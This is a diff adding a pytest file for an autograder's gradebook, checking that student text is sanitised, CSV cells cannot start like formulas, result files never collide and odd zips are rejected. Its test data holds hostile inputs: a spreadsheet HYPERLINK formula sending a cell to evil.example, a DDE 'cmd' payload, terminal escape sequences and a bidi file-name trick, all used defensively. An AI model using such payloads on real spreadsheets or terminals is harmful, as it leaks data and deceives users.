@@ -1,0 +1,168 @@
+"""What a graded submission becomes: the Outcome, its gradebook row, grades.csv and the closing table, with
+student text made safe, and row names that never collide (fast, no grading)."""
+from __future__ import annotations
+
+import csv
+import itertools
+import json
+import re
+import zipfile
+
+import pytest
+
+from autograder.engine import gradebook, sanitize, submissions
+from autograder.engine.outcome import Outcome
+from autograder.engine.pool import Job
+from autograder.samples import write_submission
+
+ATTACKS = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "clipboard": "copy\x1b]52;c;ZXZpbA==\x07done",
+    "line clear": "fine\x1b[2K\x1b[1Amessage",
+    "title": "\x1b]0;owned\x1b\\ok",
+    "c1 csi": "a\x9b31mred",
+    "bidi": "safe\u202egnp.exe",
+    "nul and bell": "a\x00b\x07c",
+}
+
+
+def test_an_outcome_survives_json_and_refuses_anything_else():
+    outcome = Outcome("graded", "m", 42.5, 100.0, {"1": 10.0}, {"1": 10.0}, {"score": 42.5}, False, ["f"], 1.5)
+    assert Outcome.from_json(outcome.to_json()) == outcome
+    for bad in ("[]", '{"status": "graded", "bogus": 1}', '{"status": "maybe"}', "not json"):
+        with pytest.raises(ValueError):
+            Outcome.from_json(bad)
+
+
+def test_a_worker_that_died_mid_write_is_an_engine_failure():
+    job = Job(1, 0, 0.0, bytearray(Outcome("graded", score=100.0).to_json().encode()[:-5]))
+    outcome = job.outcome()
+    assert (outcome.status, outcome.engine_failure, outcome.score) == ("error", True, 0.0)
+
+
+@pytest.mark.parametrize("name", list(ATTACKS))
+def test_student_text_loses_escape_sequences_and_control_characters(name):
+    clean = sanitize.printable(ATTACKS[name])
+    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or 0x202A <= ord(c) <= 0x202E for c in clean), repr(clean)
+
+
+def test_newlines_stay_only_where_asked():
+    assert sanitize.printable("a\nb\tc") == "a b c"
+    assert sanitize.printable("a\nb\tc\x1b[31m", newlines=True) == "a\nb\tc"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_never_starts_like_a_formula(start):
+    cell = sanitize.csv_cell(start + "1+1")
+    assert cell.startswith("'") or not cell.startswith(sanitize.FORMULA_STARTS)
+    assert not cell.lstrip("'").startswith(("\t", "\r"))
+
+
+def _submission(name="=cmd|' /C calc'!A0", slug="x", source="/class/x"):
+    return submissions.Submission(name, slug, source)
+
+
+def test_grades_csv_holds_student_text_as_inert_text(tmp_path):
+    outcome = Outcome("graded", ATTACKS["formula"] + ATTACKS["line clear"], flags=[ATTACKS["clipboard"]])
+    row = gradebook.row_from_outcome(_submission(), outcome, "isolated: pid")
+    gradebook.write_csv(tmp_path, [row])
+    with open(tmp_path / "grades.csv", newline="") as handle:
+        written = next(csv.DictReader(handle))
+    assert written["submission"].startswith("'=") and written["message"].startswith("'=")
+    assert "\x1b" not in (tmp_path / "grades.csv").read_text()
+    assert written["flags"] == "copydone"
+    table = gradebook.table([row])
+    assert "\x1b" not in table and "flags: 1 submission(s) flagged" in table
+
+
+def test_rows_keep_source_flags_and_attempts_and_a_resume_finds_them_by_source(tmp_path):
+    (tmp_path / "results").mkdir()
+    graded = gradebook.row_from_outcome(_submission("a", "a", "/class/a"), Outcome("graded", score=100.0), "n")
+    failed = gradebook.row_from_outcome(_submission("b", "b", "/class/b"), Outcome.failed("grader error"), "n")
+    failed_twice = gradebook.row_from_outcome(_submission("c", "c", "/class/c"), Outcome.failed("x"), "n", 2)
+    for row in (graded, failed, failed_twice):
+        gradebook.write_result(tmp_path, row, gradebook.results_document(Outcome("error"), row))
+    done, taken = gradebook.load_done(tmp_path)
+    assert set(done) == {"/class/a", "/class/c"}      # an engine failure is graded again, once
+    assert taken == {"a": "/class/a", "b": "/class/b", "c": "/class/c"}
+    assert gradebook.attempts_before(tmp_path, "b") == 1 and gradebook.attempts_before(tmp_path, "a") == 0
+
+
+def test_names_that_look_alike_never_share_a_results_file():
+    found = submissions._with_unique_slugs([("slug a", "/c/slug a"), ("slug_a", "/c/slug_a"),
+                                            ("slug_a-2", "/c/slug_a-2"), ("slug a!", "/d/slug a!")], {})
+    slugs = [s.slug for s in found]
+    assert len(set(slugs)) == 4, slugs
+    # Defence off: the rule before (a counter per safe name, "-N" appended) gave two of them one file.
+    counts, old = {}, []
+    for name in ("slug a", "slug_a", "slug_a-2"):
+        slug = re.sub(r"[^A-Za-z0-9._-]+", "_", name).strip("._") or "submission"
+        counts[slug] = counts.get(slug, 0) + 1
+        old.append(f"{slug}-{counts[slug]}" if counts[slug] > 1 else slug)
+    assert old == ["slug_a", "slug_a-2", "slug_a-2"]
+
+
+def test_a_resumed_run_keeps_each_source_on_its_own_file_whatever_was_added():
+    first = submissions._with_unique_slugs([("slug_a", "/c/slug_a")], {})
+    taken = {s.slug: s.source for s in first}
+    second = submissions._with_unique_slugs([("slug a", "/c/slug a"), ("slug_a", "/c/slug_a")], taken)
+    by_source = {s.source: s.slug for s in second}
+    assert by_source["/c/slug_a"] == first[0].slug
+    assert by_source["/c/slug a"] != first[0].slug
+
+
+def _zip(path, entries):
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in entries:
+            archive.writestr(name, data)
+    return path
+
+
+@pytest.mark.parametrize("entries, why", [
+    ([("student/__init__.py", ""), ("student/x", "file"), ("student/x/y.py", "")], "both a file and a folder"),
+    ([("student/__init__.py", ""), ("student/x/y.py", ""), ("student/x", "file")], "both a file and a folder"),
+    ([("student/__init__.py", ""), ("student/a.py", "1"), ("student/a.py", "2")], "twice"),
+])
+def test_zip_oddities_are_errors_with_a_message(tmp_path, entries, why):
+    private = tmp_path / "private"
+    private.mkdir()
+    with pytest.warns(UserWarning) if any(n == m for (n, _), (m, _) in itertools.pairwise(entries)) else _nothing():
+        archive = _zip(tmp_path / "odd.zip", entries)
+    with pytest.raises(submissions.SubmissionError, match=why):
+        submissions.unpack(str(archive), str(private))
+
+
+class _nothing:
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        return False
+
+
+def test_bytecode_is_dropped_from_zips_and_code_only_in_bytecode_is_flagged(tmp_path):
+    folder = write_submission(tmp_path / "src", solution=False)
+    entries = [(f"student/{p.name}", p.read_bytes()) for p in (folder / "student").iterdir() if p.is_file()]
+    entries += [("student/_solution.pyc", b"\x00" * 32), ("student/__pycache__/heads.cpython-311.pyc", b"\x00")]
+    private = tmp_path / "private"
+    private.mkdir()
+    unpacked = submissions.unpack(str(_zip(tmp_path / "s.zip", entries)), str(private))
+    assert not list(private.rglob("*.pyc"))
+    assert len(unpacked.flags) == 1 and "student/_solution.pyc" in unpacked.flags[0]
+
+
+def test_bytecode_beside_its_source_is_dropped_without_a_flag(tmp_path):
+    folder = write_submission(tmp_path / "src", solution=False)
+    (folder / "student" / "heads.pyc").write_bytes(b"\x00")
+    private = tmp_path / "private"
+    private.mkdir()
+    assert submissions.unpack(str(folder), str(private)).flags == ()
+    assert not list(private.rglob("*.pyc"))
+
+
+def test_results_document_of_an_error_row_names_the_reason_and_the_flags():
+    outcome = Outcome.rejected("no student/ package found", ["code shipped only as bytecode: student/x.pyc"])
+    row = gradebook.row_from_outcome(_submission(), outcome, "n")
+    document = gradebook.results_document(outcome, row)
+    assert document["score"] == 0.0 and "no student/ package" in document["output"]
+    assert "bytecode" in document["output"] and json.dumps(document)
